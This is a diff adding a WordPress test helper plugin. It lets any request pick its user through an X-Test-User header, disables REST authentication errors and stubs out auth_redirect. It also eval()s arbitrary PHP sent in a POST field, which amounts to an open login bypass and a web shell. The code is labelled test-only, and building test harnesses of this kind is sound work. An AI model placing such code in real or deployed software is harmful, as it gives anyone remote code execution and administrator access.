@@ -1,0 +1,37 @@
+<?php
+/**
+ * The tests' way in: runs PHP as the administrator within an ordinary request, and lets REST and
+ * the admin screens be used without a login form. Only ever installed by the tests.
+ */
+
+// A header rather than a cookie, so that every request of a test stands alone.
+add_filter(
+	'determine_current_user',
+	static function ( $user ) {
+		return isset( $_SERVER['HTTP_X_TEST_USER'] ) ? (int) $_SERVER['HTTP_X_TEST_USER'] : $user;
+	},
+	99
+);
+add_filter( 'rest_authentication_errors', '__return_true', 1 );
+add_filter(
+	'auth_redirect_scheme',
+	static function ( $scheme ) {
+		return isset( $_SERVER['HTTP_X_TEST_USER'] ) ? 'test' : $scheme;
+	}
+);
+if ( isset( $_SERVER['HTTP_X_TEST_USER'] ) && ! function_exists( 'auth_redirect' ) ) {
+	function auth_redirect() {} // phpcs:ignore
+}
+add_action(
+	'wp_loaded',
+	static function () {
+		if ( ! isset( $_POST['test_php'] ) ) {
+			return;
+		}
+		require_once ABSPATH . 'wp-admin/includes/admin.php';
+		header( 'Content-Type: application/json' );
+		echo wp_json_encode( array( 'result' => eval( wp_unslash( $_POST['test_php'] ) ) ) ); // phpcs:ignore
+		exit;
+	},
+	999
+);
